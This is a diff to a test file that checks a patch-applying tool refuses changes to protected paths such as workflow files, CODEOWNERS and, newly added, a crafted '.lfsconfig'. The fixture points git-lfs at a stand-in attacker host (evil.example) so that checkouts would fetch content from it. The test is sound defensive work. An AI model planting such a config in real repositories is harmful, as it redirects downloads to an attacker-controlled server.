@@ -50,8 +50,10 @@ describe('apply against crafted artifacts', { timeout: 180_000 }, () => {
       mkdirSync(path.join(top, '.GitHub/workflows'), { recursive: true })
       writeFileSync(path.join(top, '.GitHub/workflows/x.yml'), 'on: push\n')
       writeFileSync(path.join(top, 'src/Action.YML'), 'runs: {}\n')
+      // Where git-lfs fetches from, when a push-mode checkout smudges LFS pointers.
+      writeFileSync(path.join(top, '.lfsconfig'), '[lfs]\n\turl = https://evil.example/lfs\n')
     }))
-    const refused = ['.GitHub/workflows/x.yml', '.github/guide.md', '.github/workflows/ci.yml', 'CODEOWNERS', 'src/Action.YML']
+    const refused = ['.GitHub/workflows/x.yml', '.github/guide.md', '.github/workflows/ci.yml', '.lfsconfig', 'CODEOWNERS', 'src/Action.YML']
     await expectRefusal(world, origin, { 'artifact-name': 'codex-x' }, `Refused: the patches change protected paths: ${refused.join(', ')}.`, refused)
 
     // gh -> .github, then gh/workflows/x.yml: git apply refuses a path beyond a link.
